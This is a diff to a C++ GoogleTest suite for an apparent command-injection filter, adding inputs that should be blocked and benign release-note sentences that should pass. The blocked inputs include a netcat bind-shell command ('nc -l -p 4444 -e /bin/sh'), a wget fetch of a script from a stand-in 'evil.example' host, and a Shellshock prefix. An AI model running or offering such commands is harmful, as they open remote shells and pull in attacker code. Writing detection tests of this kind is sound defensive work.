@@ -49,7 +49,10 @@ INSTANTIATE_TEST_SUITE_P(
         // A strong command with a flag after other words; a bare system binary path.
         "tcpdump any -w out", "/usr/bin/nc", "/bin/sh",
         // Bare Shellshock prefix.
-        "() {"));
+        "() {",
+        // Several flags before arguments that are no sentence.
+        "nc -l -p 4444 -e /bin/sh", "wget -q -O- http://evil.example/x.sh",
+        "cat -n -v /etc/hosts"));
 
 class CmdExeGrammar : public ::testing::TestWithParam<const char*> {};
 TEST_P(CmdExeGrammar, IsBlockedAsCommandInjection) {
@@ -154,7 +157,12 @@ INSTANTIATE_TEST_SUITE_P(
         // Release notes that open with a command and one of its flags.
         "grep -P no longer attempts multiline matches.",
         "ls -w0 is now interpreted as no limit on the length of the outputted line.",
-        "chmod -R no longer exits with error status when encountering symlinks."));
+        "chmod -R no longer exits with error status when encountering symlinks.",
+        // ... with two or three flags, or a manual's placeholders.
+        "cp -u -p would fail to preserve one hard link for each copy",
+        "rm -i -d now prompts the user then removes an empty directory",
+        "lua-load <file> This global directive loads and executes a Lua file",
+        "node <name> Only letters, digits, hyphen and underscore are allowed"));
 
 // CI/ops forms: Dockerfiles and YAML pipelines carry commands by design, like a shebang script.
 class OpsDocumentBenign : public ::testing::TestWithParam<const char*> {};
